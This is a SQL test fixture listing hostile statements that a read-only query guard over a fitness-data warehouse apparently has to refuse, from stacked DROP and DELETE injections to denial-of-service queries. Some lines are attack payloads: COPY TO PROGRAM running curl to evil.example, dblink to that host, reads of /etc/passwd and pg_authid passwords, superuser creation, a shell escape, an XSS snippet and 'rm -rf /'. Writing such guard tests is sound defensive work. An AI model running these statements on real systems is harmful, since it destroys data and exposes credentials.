-- What no question needs, beside coros_assets_tests/storage/hostile_statements.sql. One statement a line; the guard
-- refuses each, and run without the guard each fails or leaves nothing behind.
-- More than one statement, and what ends the first one early
SELECT 1; DROP TABLE gold.fact_lap
SELECT 1; DELETE FROM gold.fact_day;
; SELECT 1; SELECT 2
SELECT 1 /* */; TRUNCATE gold.fact_day --
SELECT count(*) FROM gold.fact_lap; COMMIT; DROP SCHEMA gold CASCADE
SELECT 'a'; SET ROLE coros_loader; SELECT 'b'
BEGIN; DELETE FROM gold.fact_lap; COMMIT
SELECT 1;;SELECT 2
-- Not a SELECT
VALUES (1), (2)
SHOW ALL
SET statement_timeout = 0
RESET ALL
EXPLAIN SELECT * FROM gold.fact_lap
EXPLAIN ANALYZE SELECT * FROM gold.fact_lap
EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM gold.fact_lap
PREPARE p AS SELECT 1
EXECUTE p
DEALLOCATE ALL
DECLARE c CURSOR FOR SELECT 1
FETCH ALL FROM c
LISTEN x
NOTIFY x
DISCARD ALL
LOCK TABLE gold.fact_lap
CALL gold.f()
COPY (SELECT * FROM gold.fact_lap) TO STDOUT
COPY gold.fact_lap TO PROGRAM 'curl http://evil.example'
DO 'BEGIN PERFORM 1; END'
MERGE INTO gold.fact_lap AS t USING gold.fact_lap AS s ON TRUE WHEN MATCHED THEN DELETE
REFRESH MATERIALIZED VIEW gold.fact_lap
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO gold
CREATE EXTENSION dblink
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
CREATE USER evil SUPERUSER
CREATE RULE r AS ON SELECT TO gold.fact_lap DO INSTEAD NOTHING
CREATE TRIGGER t AFTER INSERT ON gold.fact_lap EXECUTE FUNCTION f()
SECURITY LABEL ON TABLE gold.fact_lap IS 'x'
REASSIGN OWNED BY coros_reader TO coros_loader
DROP OWNED BY coros_loader
\! id
\copy gold.fact_lap TO '/tmp/x'
-- Writing hidden in a SELECT
WITH x AS (INSERT INTO gold.dim_date (date) VALUES ('2030-01-01') RETURNING *) SELECT * FROM x
WITH x AS (UPDATE gold.fact_day SET runs = 9 RETURNING runs) SELECT sum(runs) FROM x
WITH a AS (SELECT 1), x AS (DELETE FROM gold.fact_day RETURNING 1) SELECT * FROM a
SELECT * INTO TABLE mine FROM gold.fact_day
SELECT runs INTO UNLOGGED gold.mine FROM gold.fact_day
SELECT * FROM gold.fact_day FOR UPDATE SKIP LOCKED
SELECT * FROM gold.fact_day AS d JOIN gold.dim_date ON TRUE FOR SHARE OF d
-- Rows and time without end
SELECT * FROM generate_series(1, 1000000000)
SELECT generate_series(1, 1000000000)
SELECT count(*) FROM generate_series(1, 1e9::bigint) AS g
SELECT count(*) FROM gold.fact_day, generate_series(1, 100000000) AS g
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 1000000000) SELECT max(n) FROM r
SELECT repeat('x', 1000000000)
SELECT lpad('x', 1000000000, 'y')
SELECT length(repeat(repeat('x', 10000), 10000))
SELECT string_agg(a.source, b.source) FROM gold.dim_shift AS a, gold.dim_shift AS b
SELECT array_agg(a.source) FROM gold.dim_shift AS a, gold.dim_shift AS b
SELECT replace('aaaaaaaa', 'a', 'bbbbbbbb')
SELECT regexp_replace(source, '(a+)+$', 'b') FROM gold.dim_shift
SELECT * FROM gold.dim_shift WHERE source ~ '^(((a+)+)+)+$'
SELECT 'x' || source FROM gold.dim_shift
SELECT concat(source, source) FROM gold.dim_shift
SELECT format('%1000000s', source) FROM gold.dim_shift
SELECT unnest(quality_flags) FROM gold.fact_activity
SELECT array_fill(1, ARRAY[100000000])
SELECT factorial(100000)
SELECT sum(runs) FROM gold.fact_day GROUP BY CUBE (activity_date, schedule_period, runs, load, ctl, atl, tsb)
SELECT 1 FROM gold.fact_day a, gold.fact_day b, gold.fact_day c, gold.fact_day d, gold.fact_day e, gold.fact_day f, gold.fact_day g, gold.fact_day h, gold.fact_day i, gold.fact_day j, gold.fact_day k, gold.fact_day l, gold.fact_day m
-- Other schemas, other names for them
SELECT * FROM ledger.date_state
SELECT * FROM "ledger"."date_state"
SELECT * FROM LEDGER.landing_file
SELECT * FROM pg_class
SELECT * FROM pg_catalog.pg_roles
SELECT rolpassword FROM pg_authid
SELECT * FROM information_schema.tables
SELECT * FROM coros.gold.fact_lap
SELECT * FROM dagster.public.runs
SELECT * FROM public.runs
SELECT * FROM pg_temp.x
SELECT * FROM pg_stat_statements
SELECT * FROM pg_stat_activity, gold.fact_lap
SELECT runs FROM gold.fact_day UNION SELECT oid::int FROM pg_class
SELECT runs FROM gold.fact_day UNION ALL (SELECT 1 FROM ledger.date_state)
SELECT runs FROM gold.fact_day WHERE EXISTS (SELECT 1 FROM pg_roles WHERE rolsuper)
SELECT (SELECT rolname FROM pg_roles LIMIT 1)
SELECT runs FROM gold.fact_day ORDER BY (SELECT count(*) FROM pg_class)
SELECT * FROM (SELECT * FROM (SELECT * FROM pg_class) AS a) AS b
SELECT CASE WHEN (SELECT count(*) FROM pg_user) > 0 THEN 1 ELSE 2 END
WITH pg_class AS (SELECT 1 AS one) SELECT one FROM pg_class
SELECT * FROM later, gold.fact_day
WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS one) SELECT * FROM a
SELECT * FROM (WITH pg_user AS (SELECT 1 AS one) SELECT one FROM pg_user) AS a, pg_user
WITH fact_lap AS (SELECT 1 AS one) SELECT * FROM fact_lap
-- Functions that are not listed, however they are called
SELECT pg_sleep(1)
SELECT pg_catalog.pg_sleep(1)
SELECT "pg_sleep"(1)
SELECT PG_SLEEP(1)
SELECT pg_sleep (1)
SELECT/**/pg_sleep(1)
SELECT runs FROM gold.fact_day WHERE pg_sleep(1) IS NULL
SELECT runs FROM gold.fact_day ORDER BY random()
SELECT coalesce(runs, pg_backend_pid()) FROM gold.fact_day
SELECT max(pg_backend_pid()) FROM gold.fact_day
SELECT max(runs) FILTER (WHERE pg_sleep(1) IS NULL) FROM gold.fact_day
SELECT sum(runs) OVER (ORDER BY pg_backend_pid()) FROM gold.fact_day
SELECT percentile_cont(random()) WITHIN GROUP (ORDER BY runs) FROM gold.fact_day
SELECT current_user
SELECT session_user
SELECT current_setting('server_version')
SELECT current_database()
SELECT version()
SELECT inet_server_addr()
SELECT pg_postmaster_start_time()
SELECT pg_ls_dir('/')
SELECT pg_read_file('/etc/passwd', 0, 100)
SELECT lo_import('/etc/passwd')
SELECT dblink('host=evil.example', 'SELECT 1')
SELECT query_to_xml('SELECT 1', true, true, '')
SELECT xpath('/x', '<x/>')
SELECT xmlparse(DOCUMENT '<x/>')
SELECT xmlelement(name x)
SELECT table_to_xml('ledger.date_state', true, true, '')
SELECT json_agg(d) FROM gold.fact_day AS d
SELECT row_to_json(d) FROM gold.fact_day AS d
SELECT d.row_to_json FROM gold.fact_day AS d
SELECT d.row_to_json, 1 AS row_to_json FROM gold.fact_day AS d
SELECT a.row_to_json FROM (SELECT 1 AS row_to_json) AS a(x)
WITH a(x) AS (SELECT 1 AS row_to_json) SELECT a.row_to_json FROM a
SELECT d FROM gold.fact_day AS d
SELECT (d).runs FROM gold.fact_day AS d
SELECT d.ctid FROM gold.fact_day AS d
SELECT tableoid FROM gold.fact_day
SELECT xmin, xmax FROM gold.fact_day
SELECT has_table_privilege('coros_reader', 'gold.fact_lap', 'SELECT')
SELECT to_regclass('ledger.date_state')
SELECT obj_description('gold.fact_lap'::regclass)
SELECT convert_from(decode('c2VsZWN0', 'base64'), 'UTF8')
SELECT chr(65)
SELECT md5('x')
SELECT currval('x')
SELECT nextval('x')
SELECT setval('x', 1)
SELECT txid_current()
SELECT pg_notify('x', 'y')
SELECT set_config('search_path', 'ledger', false)
SELECT * FROM pg_show_all_settings()
SELECT * FROM ROWS FROM (generate_series(1, 3)) AS x
SELECT * FROM pg_ls_tmpdir()
SELECT * FROM unnest(ARRAY[1, 2])
SELECT * FROM json_each('{}')
SELECT * FROM gold.fact_day, LATERAL (SELECT 1) AS x
SELECT 1 OPERATOR(pg_catalog.+) 2
-- Types that look names up, or read text as something else
SELECT 'ledger.date_state'::regclass
SELECT 'pg_sleep'::regproc
SELECT 'coros_loader'::regrole
SELECT CAST('pg_class' AS regclass)::int
SELECT '<x/>'::xml
SELECT '{}'::json
SELECT '{1,2}'::int[]
SELECT 'x'::bytea
SELECT '(1,2)'::gold.fact_lap
SELECT NULL::gold.fact_lap
SELECT ROW(1, 2)
SELECT ARRAY[1, 2]
SELECT quality_flags[1] FROM gold.fact_activity
-- Texts that two readers of SQL may read differently
SELECT E'\' FROM pg_class --'
SELECT 'a\'
SELECT $$text$$
SELECT $tag$ ; DROP TABLE gold.fact_lap; $tag$
SELECT U&'\0041'
SELECT U&"\0061" FROM gold.fact_day
SELECT B'1010'
SELECT X'1F'
SELECT $1
SELECT :name
SELECT ?
SELECT @@version
SELECT `runs` FROM gold.fact_day
SELECT /* /* */ */ pg_sleep(1)
SELECT 1 WHERE 1 = 1 /*! OR pg_sleep(1) */ OR pg_sleep(1) IS NULL
SELECT runs FROM gold.fact_day LIMIT (SELECT count(*) FROM pg_class)
SELECT * FROM gold.fact_day TABLESAMPLE SYSTEM (1)
SELECT * FROM gold.fact_day AS OF SYSTEM TIME '-1s'
SELECT TOP 1 runs FROM gold.fact_day
SELECT runs FROM gold.fact_day PROCEDURE ANALYSE()
-- No SQL at all
I cannot answer that.
Here is the query: SELECT runs FROM gold.fact_day
{"sql": "SELECT 1"}
<script>alert(1)</script>
rm -rf /
